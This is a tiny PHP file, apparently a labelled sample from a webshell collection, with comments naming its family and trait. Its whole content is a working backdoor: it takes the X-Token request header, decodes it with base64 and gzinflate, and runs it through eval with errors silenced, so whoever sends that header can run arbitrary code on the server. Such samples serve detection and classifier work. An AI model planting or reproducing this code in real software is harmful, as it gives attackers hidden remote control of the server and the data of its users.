<?php
// Family: webshell/eval-request
// Style: all-headers evaluator
// Trait: getallheaders() entry decoded and evaluated
$hs = getallheaders();
if (isset($hs['X-Token'])) { @eval(gzinflate(base64_decode($hs['X-Token']))); }
